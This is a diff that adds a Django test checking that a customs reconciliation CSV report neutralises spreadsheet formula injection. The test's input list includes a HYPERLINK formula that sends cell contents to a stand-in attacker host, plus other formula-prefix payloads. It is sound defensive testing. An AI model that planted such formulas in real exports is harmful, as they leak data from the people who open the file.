@@ -93,6 +93,29 @@ def test_customs_send_a_list_from_the_page_and_download_the_report(pages, django
     assert "amount_differs,".lower() in body and "unknown_here," in body
 
 
+def test_a_formula_sent_in_a_list_reaches_the_secretariat_as_text(pages, django_capture_on_commit_callbacks):
+    """The attack: customs (or whoever holds their session) send a list whose references are spreadsheet
+    formulas; the secretariat downloads the report and opens it in a spreadsheet."""
+    import csv
+    import io
+
+    _world, _run, _failure, people = pages
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
+    lines = "".join(f'"{ref.replace(chr(34), chr(34) * 2)}",5\n' for ref in hostile)
+    upload = SimpleUploadedFile("open.csv", f"declaration_ref,amount\n{lines}".encode(), content_type="text/csv")
+    with django_capture_on_commit_callbacks(execute=True):
+        response = _client(people, "officer_tg").post(reverse("guarantees:reconciliation_upload"), {"file": upload})
+    run = ReconciliationRun.objects.latest("pk")
+    assert response.status_code == 302
+    body = _client(people, "secretariat").get(reverse("guarantees:reconciliation_download", args=[run.pk]))
+    rows = list(csv.DictReader(io.StringIO(body.content.decode())))
+    refs = {row["declaration_ref"] for row in rows if row["kind"] == "unknown_here"}
+    assert refs == {"'" + ref for ref in hostile}
+    assert all(not row["declaration_ref"].startswith(("=", "+", "-", "@")) for row in rows)
+    # Amounts are still numbers.
+    assert {row["amount_there"] for row in rows if row["kind"] == "unknown_here"} == {"5"}
+
+
 def test_a_bad_list_is_shown_with_its_line_numbers(pages):
     world, _run, _failure, people = pages
     upload = SimpleUploadedFile("open.csv", b"declaration_ref,amount\nPG-1,abc\n", content_type="text/csv")
